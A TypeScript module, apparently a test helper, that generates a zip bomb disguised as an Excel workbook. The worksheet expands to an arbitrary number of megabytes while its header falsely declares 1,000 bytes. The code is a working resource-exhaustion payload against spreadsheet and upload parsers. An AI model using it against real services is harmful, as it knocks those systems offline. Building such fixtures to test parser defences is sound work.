// A zip bomb shaped as an .xlsx workbook: the parts Excel needs, and a sheet that unpacks to `unpackedBytes` of XML
// (mostly spaces) from a few hundred kilobytes. Built from one compressed megabyte repeated, so it takes milliseconds.
import { constants, deflateRawSync } from 'node:zlib';

const MB = 1024 * 1024;

/** Deflate data for `megabytes` of spaces between `head` and `tail`: non-final blocks, then an empty final one. */
function deflatedPadding(head: string, megabytes: number, tail: string): Buffer {
  const flush = { finishFlush: constants.Z_SYNC_FLUSH };
  const spaces = deflateRawSync(Buffer.alloc(MB, 32), flush);
  return Buffer.concat([
    deflateRawSync(Buffer.from(head), flush),
    ...Array.from({ length: megabytes }, () => spaces),
    deflateRawSync(Buffer.from(tail), flush),
    // An empty final block with fixed codes.
    Buffer.from([0x03, 0x00]),
  ]);
}

interface Part {
  name: string;
  method: 0 | 8;
  data: Buffer;
  size: number;
}

function zip(parts: Part[]): Buffer {
  const locals: Buffer[] = [];
  const directory: Buffer[] = [];
  let offset = 0;
  for (const part of parts) {
    const name = Buffer.from(part.name);
    const header = Buffer.alloc(30);
    header.writeUInt32LE(0x04034b50, 0);
    header.writeUInt16LE(20, 4);
    header.writeUInt16LE(part.method, 8);
    header.writeUInt32LE(part.data.length, 18);
    header.writeUInt32LE(part.size, 22);
    header.writeUInt16LE(name.length, 26);
    const entry = Buffer.alloc(46);
    entry.writeUInt32LE(0x02014b50, 0);
    entry.writeUInt16LE(20, 4);
    entry.writeUInt16LE(20, 6);
    entry.writeUInt16LE(part.method, 10);
    entry.writeUInt32LE(part.data.length, 20);
    entry.writeUInt32LE(part.size, 24);
    entry.writeUInt16LE(name.length, 28);
    entry.writeUInt32LE(offset, 42);
    locals.push(header, name, part.data);
    directory.push(entry, name);
    offset += header.length + name.length + part.data.length;
  }
  const directoryBytes = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(directoryBytes.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directoryBytes, end]);
}

const stored = (name: string, text: string): Part => ({
  name,
  method: 0,
  data: Buffer.from(text),
  size: Buffer.byteLength(text),
});

const XML = '<?xml version="1.0" encoding="UTF-8"?>';
const OPEN_XML = 'http://schemas.openxmlformats.org';
const CONTENT_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml';

export function zipBombWorkbook(unpackedMegabytes: number): Buffer {
  const head = `${XML}<worksheet xmlns="${OPEN_XML}/spreadsheetml/2006/main"><sheetData>`;
  const tail = '</sheetData></worksheet>';
  return zip([
    stored(
      '[Content_Types].xml',
      `${XML}<Types xmlns="${OPEN_XML}/package/2006/content-types">` +
        `<Override PartName="/xl/workbook.xml" ContentType="${CONTENT_TYPE}.sheet.main+xml"/>` +
        `<Override PartName="/xl/worksheets/sheet1.xml" ContentType="${CONTENT_TYPE}.worksheet+xml"/></Types>`,
    ),
    stored(
      'xl/workbook.xml',
      `${XML}<workbook xmlns="${OPEN_XML}/spreadsheetml/2006/main"` +
        ` xmlns:r="${OPEN_XML}/officeDocument/2006/relationships">` +
        '<sheets><sheet name="organizations" sheetId="1" r:id="rId1"/></sheets></workbook>',
    ),
    {
      name: 'xl/worksheets/sheet1.xml',
      method: 8,
      data: deflatedPadding(head, unpackedMegabytes, tail),
      // The size the archive declares is what a careless reader would trust: here it claims to be small.
      size: 1_000,
    },
  ]);
}
